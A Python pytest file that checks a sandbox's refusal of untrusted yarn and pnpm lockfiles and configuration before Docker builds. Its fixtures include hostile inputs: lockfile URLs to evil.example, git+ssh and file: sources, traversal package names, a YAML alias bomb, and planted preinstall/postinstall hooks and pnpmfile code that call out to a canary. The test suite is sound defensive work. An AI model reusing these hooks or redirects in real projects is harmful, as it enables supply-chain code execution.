"""Node stack images from `yarn.lock` (yarn 1) and `pnpm-lock.yaml` (pnpm): the host's
rules on each lockfile, and the attacks through a real build.

The fixtures' lockfiles were made by the real tools (tests/sandbox/fixtures/node-yarn,
node-pnpm: their READMEs). The lockfiles, `.yarnrc`, `.npmrc`, `.pnpmfile.cjs` and
`pnpm-workspace.yaml` are untrusted: a refused source fails on the host before anything is
built, and the configuration files, pointing at a loopback canary, are never read — the
canary is never asked, and the image still installs from the public registry.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from karma.config import KarmaConfig
from karma.executor.unit import run_checks
from karma.recipes import detect_stack
from karma.sandbox import spec_from_config
from karma.sandbox.berrylock import YARN_BERRY
from karma.sandbox.docker import DockerBackend
from karma.sandbox.images import ensure_image
from karma.sandbox.interface import ImageBuildError
from karma.sandbox.npm import check_lockfile, manager_of
from karma.sandbox.yarnlock import parse
from tests.sandbox.test_sandbox_images import Canary

FIXTURES = Path(__file__).parent / "fixtures"
YARN = FIXTURES / "node-yarn"
PNPM = FIXTURES / "node-pnpm"
BERRY = FIXTURES / "node-berry"
BUILT = {  # packages downloaded, /node_modules, the file a task changed
    "node-yarn": (2, ["debug", "ms"], "src/since.js"),
    "node-pnpm": (2, ["debug", "ms"], "src/since.js"),
    "node-berry": (6, ["@types", "ms", "typescript", "undici-types"], "src/duration.ts"),
}
YARN_LOCK = (YARN / "yarn.lock").read_text()
PNPM_LOCK = (PNPM / "pnpm-lock.yaml").read_text()
MANIFEST = (YARN / "package.json").read_bytes()
MS = "https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz#574c8138ce1d2b5861f0b44579dbadd60c6615b2"
MS_INTEGRITY = "integrity: sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA=="  # noqa: E501


def _yarn(text: str) -> dict[str, bytes]:
    return {"package.json": MANIFEST, "yarn.lock": text.encode()}


def _pnpm(text: str) -> dict[str, bytes]:
    return {"package.json": (PNPM / "package.json").read_bytes(), "pnpm-lock.yaml": text.encode()}


def test_the_fixtures_lockfiles_made_by_yarn_and_pnpm_are_accepted() -> None:
    assert check_lockfile(_yarn(YARN_LOCK)) == 2
    assert check_lockfile(_pnpm(PNPM_LOCK)) == 2
    every = {"package-lock.json": b"{}", "yarn.lock": b"", "pnpm-lock.yaml": b""}
    assert manager_of(every) == ("npm", "package-lock.json")
    assert manager_of({"yarn.lock": b"", "pnpm-lock.yaml": b""}) == ("pnpm", "pnpm-lock.yaml")
    assert manager_of({"yarn.lock": b""}) == ("yarn", "yarn.lock")
    assert manager_of({"package.json": b"{}"}) == ("npm", None)
    (entry,) = parse('# yarn lockfile v1\n\n"@a/b@^1", "@a/b@^1.2":\n  version "1.2.0"\n'
                     '  dependencies:\n    "@x/y" "*"\n    z latest\n')  # fmt: skip
    assert entry.keys == ("@a/b@^1", "@a/b@^1.2") and entry.name == "@a/b"
    assert entry.maps == {"dependencies": {"@x/y": "*", "z": "latest"}}


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (MS, "https://evil.example/ms/-/ms-2.1.3.tgz", "resolved to 'https://evil.example/"),
        (MS, "http://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz", "resolved to 'http://registry"),
        (MS, "https://registry.yarnpkg.com.evil.example/ms/-/ms-2.1.3.tgz", "evil.example"),
        (MS, "git+ssh://git@github.com/evil/ms.git#abc", "resolved to 'git+ssh:"),
        (MS, "file:../outside", "resolved to 'file:../outside'"),
        (MS, "https://registry.yarnpkg.com/../../x.tgz", "resolved to"),
        (MS, "https://registry.yarnpkg.com/ms/-/ms-2.1.3.tgz?x=1", "resolved to"),
        ('  resolved "' + MS + '"\n', "", "ms@^2.1.3: no `resolved` URL"),
        (MS_INTEGRITY.replace(": ", " "), "", "no sha512 `integrity`"),
        ("ms@^2.1.3:", "../../evil@^2.1.3:", "'../../evil@^2.1.3' is not a package name"),
        ("ms@^2.1.3:", '"ms@file:../outside":', "names a source other than the registry"),
        ("ms@^2.1.3:", '"ms@git+ssh://git@github.com/e/ms.git":', "names a source other"),
        ('  version "2.1.3"', '   version "2.1.3"', "indented 3 spaces"),
        ('  version "2.1.3"', '\tversion "2.1.3"', "a tab"),
        ("# yarn lockfile v1", "# not yarn", "no `# yarn lockfile v1` header"),
    ],
)
def test_a_yarn_lock_from_anywhere_but_the_public_registry_is_refused(
    old: str, new: str, reason: str
) -> None:
    assert old in YARN_LOCK
    with pytest.raises(ImageBuildError, match=re.escape("yarn.lock refused")) as caught:
        check_lockfile(_yarn(YARN_LOCK.replace(old, new)))
    assert reason in str(caught.value), str(caught.value)
    assert "registry.npmjs.org" in (caught.value.tip or "")


INTEGRITY = "resolution: {integrity: sha512-6Flz"
ATTACKS = [
    (INTEGRITY, "resolution: {tarball: https://evil.example/ms.tgz, integrity: sha512-6Flz",
     "resolved to 'https://evil.example/ms.tgz'"),
    (INTEGRITY, "resolution: {type: git, repo: 'git+ssh://git@github.com/e/ms.git', commit: ab"
     "c}\n    x: {integrity: sha512-6Flz", "not the registry"),
    (INTEGRITY, "resolution: {directory: ../../outside, integrity: sha512-6Flz",
     "not the registry"),
    (INTEGRITY, "resolution: {tarball: 'file:../ms.tgz', integrity: sha512-6Flz", "file:"),
    (INTEGRITY, "resolution: {tarball: https://registry.npmjs.org/ms/-/ms-2.1.3.tgz}\n    x: {"
     "integrity: sha512-6Flz", "no sha512 `integrity`"),
    ("        version: 2.1.3", "        version: link:../outside", "'link:../outside'"),
    ("        version: 2.1.3", "        version: file:../outside", "'file:../outside'"),
    ("  ms@2.1.3:\n    resolution", "  ../../evil@2.1.3:\n    resolution", "not a package name"),
    ("      ms: 2.1.3", "      ms: link:../../evil", "snapshot debug@4.4.3"),
    ("importers:\n", "importers:\n\n  ../evil: {}\n", "is not a folder of the project"),
    ("settings:", "patchedDependencies:\n  ms: {path: ../p.patch, hash: x}\nsettings:",
     "patchedDependencies"),
    ("lockfileVersion: '9.0'", "lockfileVersion: '6.0'", "lockfileVersion '6.0'"),
    ("lockfileVersion: '9.0'", "lockfileVersion: [", "not valid YAML"),
    ("packages:\n", "l0: &l0 [x, x, x, x, x, x, x, x, x, x]\n"
     + "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]\n" for i in range(1, 10))
     + "packages:\n  ms@2.1.3:\n    resolution: {a: *l9}\n", "a YAML alias"),
]  # fmt: skip


@pytest.mark.parametrize(("old", "new", "reason"), ATTACKS)
def test_a_pnpm_lock_from_anywhere_but_the_public_registry_is_refused(
    old: str, new: str, reason: str
) -> None:
    assert old in PNPM_LOCK
    with pytest.raises(ImageBuildError, match=re.escape("pnpm-lock.yaml refused")) as caught:
        check_lockfile(_pnpm(PNPM_LOCK.replace(old, new, 1)))
    assert reason in str(caught.value), str(caught.value)


def _plant(repo: Path, canary: Canary) -> None:
    """Every configuration file yarn and pnpm would read in a project, each pointing at
    the canary (registry, a yarn binary to run instead, a pnpm hook, a workspace)."""
    phone = f"require('http').get('{canary.url}/ran')"
    (repo / "evil.js").write_text(f"{phone};\nrequire('fs').mkdirSync('node_modules/evil')\n")
    (repo / ".yarnrc").write_text(
        f'registry "{canary.url}/yarnrc-registry/"\nyarn-path "./evil.js"\nignore-scripts false\n'
    )
    (repo / ".npmrc").write_text(f"registry={canary.url}/npmrc-registry/\nignore-scripts=false\n")
    (repo / ".pnpmfile.cjs").write_text(f"{phone};\nmodule.exports = {{ hooks: {{}} }};\n")
    (repo / "pnpm-workspace.yaml").write_text("packages:\n  - '../../*'\n")
    (repo / ".yarn" / "releases").mkdir(parents=True)
    (repo / ".yarn" / "releases" / "evil.cjs").write_text(f"{phone};\n")
    (repo / ".yarnrc.yml").write_text(  # yarn 4's: a registry, its own binary, a plugin
        f'npmRegistryServer: "{canary.url}/yarnrc-yml-registry"\n'
        "yarnPath: .yarn/releases/evil.cjs\nenableScripts: true\nnodeLinker: pnp\n"
        "plugins:\n  - path: .yarn/releases/evil.cjs\n"
    )
    manifest = json.loads((repo / "package.json").read_text())
    manifest["scripts"] |= {"preinstall": f'node -e "{phone}"', "postinstall": "node evil.js"}
    manifest["packageManager"] = "pnpm@9.0.0"
    (repo / "package.json").write_text(json.dumps(manifest, indent=2))


@pytest.mark.docker
@pytest.mark.parametrize("fixture", [YARN, PNPM, BERRY], ids=["yarn", "pnpm", "berry"])
def test_yarn_and_pnpm_projects_build_from_the_registry_alone_and_their_tests_pass(
    docker_engine: str, tmp_path: Path, fixture: Path
) -> None:
    """The image installs the lockfile's packages from the public registry while every
    planted configuration points elsewhere; none is read (the canary is never asked, no
    script runs), and the project's own `node --test` suite passes in the sandbox."""
    packages, installed, changed = BUILT[fixture.name]
    served = tmp_path / "served"
    served.mkdir()
    canary = Canary(served)
    try:
        repo = tmp_path / fixture.name
        shutil.copytree(fixture, repo)
        _plant(repo, canary)
        config = KarmaConfig(sandbox={"base_image": docker_engine})
        built: list[str] = []
        tag = ensure_image("node", repo, config, log=built.append)
        assert canary.asked == []
        manager = fixture.name.removeprefix("node-")
        assert any(f"downloading {packages} {manager} packages" in line for line in built), built
        stack = detect_stack(repo)
        assert stack is not None and stack.name == "node"
        box = DockerBackend().start(
            spec_from_config(config, image=tag, workspace=repo, run_id="test-yarn", task_id="t1")
        )
        try:
            listed = box.exec("ls /node_modules", timeout_s=60)
            versions = "yarn --version && yarnpkg --version && pnpm --version"
            versions += " && yarn-berry --version"
            tools = box.exec(versions, timeout_s=60, workdir="/")
            checks = run_checks(stack, repo, box, [changed], 180)
        finally:
            box.close()
        assert listed.output.split() == installed, listed.output
        assert tools.output.split() == ["1.22.19", "1.22.19", "10.34.9", YARN_BERRY], tools
        assert [step for step, _ in checks] == ["typecheck", "lint", "test"], checks
        assert all(outcome.ok for _, outcome in checks), [o.output for _, o in checks]
        assert canary.asked == []
    finally:
        canary.close()


@pytest.mark.docker
@pytest.mark.parametrize("fixture", [YARN, PNPM, BERRY], ids=["yarn", "pnpm", "berry"])
def test_a_lockfile_out_of_date_with_package_json_fails_the_download_at_once(
    docker_engine: str, tmp_path: Path, fixture: Path
) -> None:
    """package.json asks for a package the lockfile does not have: the frozen download
    fails with the tool's reason and the tip to update the lockfile, not a hang."""
    repo = tmp_path / fixture.name
    shutil.copytree(fixture, repo)
    manifest = json.loads((repo / "package.json").read_text())
    manifest["dependencies"]["left-pad"] = "^1.3.0"
    (repo / "package.json").write_text(json.dumps(manifest, indent=2))
    with pytest.raises(ImageBuildError, match="packages failed") as caught:
        ensure_image("node", repo, KarmaConfig(sandbox={"base_image": docker_engine}))
    lockfile = "pnpm-lock.yaml" if fixture is PNPM else "yarn.lock"
    assert lockfile in (caught.value.tip or "")
    assert re.search(r"lockfile needs to be updated|not up to date|OUTDATED|would have been "
                     "modified", str(caught.value))  # fmt: skip
